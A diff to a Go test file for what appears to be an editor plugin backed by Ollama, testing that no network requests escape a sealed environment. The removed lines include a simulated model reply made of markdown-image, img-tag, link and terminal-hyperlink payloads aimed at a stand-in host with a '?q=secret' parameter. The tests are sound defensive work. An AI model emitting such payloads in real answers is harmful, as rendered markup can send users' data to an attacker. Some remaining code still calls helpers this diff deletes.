@@ -18,8 +18,6 @@ import (
 	"time"
 
 	"golang.org/x/sys/unix"
-
-	"sopro/internal/eval/sim"
 )
 
 // sealed tells the test that it runs in a network of its own.
@@ -112,27 +110,6 @@ func (s *sink) expectQuiet(t *testing.T) {
 	}
 }
 
-const elsewhere = "http://192.0.2.1:11434"
-
-// leaky is what a model says that wants something to be fetched.
-const leaky = "![a](http://192.0.2.1/?q=secret) <img src=\"http://192.0.2.1/\"> [b](http://192.0.2.1/) http://192.0.2.1/ \x1b]8;;http://192.0.2.1\x07"
-
-// leakyOllama is a simulated Ollama whose models say that, and one that it would forward elsewhere.
-func leakyOllama(t *testing.T) *sim.Server {
-	server := sim.New(sim.Config{Version: "0.17.4", Models: []sim.Model{
-		{Name: "qwen2.5-coder:1.5b-base", Family: "qwen2", Capabilities: []string{"completion", "insert"}, Answer: sim.Say("return \"" + elsewhere + "\"\n")},
-		{Name: "llama3.2:3b", Template: "{{ .Messages }}", Answer: func(p sim.Prompt) []sim.Token {
-			if strings.Contains(p.Messages[0].Content, "explain") {
-				return sim.Tokens(leaky)
-			}
-			return sim.Tokens("```go\nfunc f() string { return \"" + elsewhere + "\" }\n```\n")
-		}},
-		{Name: "big:480b-cloud", Remote: true},
-	}})
-	t.Cleanup(server.Close)
-	return server
-}
-
 // hostileFolder is a workspace whose settings name an address elsewhere.
 func hostileFolder(t *testing.T) string {
 	folder := t.TempDir()
@@ -141,8 +118,6 @@ func hostileFolder(t *testing.T) string {
 	write(t, filepath.Join(folder, "f.go"), hostileFile)
 	return folder
 }
-
-const hostileFile = "package f\n\n// f returns " + elsewhere + "\nfunc f() string {\n\t\n}\n"
 
 // quietSession does everything that an editor can, while every source of settings that a repository can write names an address elsewhere
 // and the environment names a proxy.
@@ -154,7 +129,7 @@ func quietSession(t *testing.T, s *sink) {
 	uri := "file://" + folder + "/f.go"
 	p := start(t, leakyOllama(t).URL())
 	redirect := map[string]any{"ollama": map[string]any{"url": elsewhere}, "privacy.allowRemote": true}
-	p.greetWith(folder, redirect)
+	p.greetWith(folder, redirect, redirect)
 	p.open(uri, "go", hostileFile)
 	p.Notify("workspace/didChangeConfiguration", map[string]any{"settings": map[string]any{"sopro": redirect}})
 	p.Until("the models", func() bool { s := p.status(); return s.Models.Completion != "" && s.Models.Chat != "" })
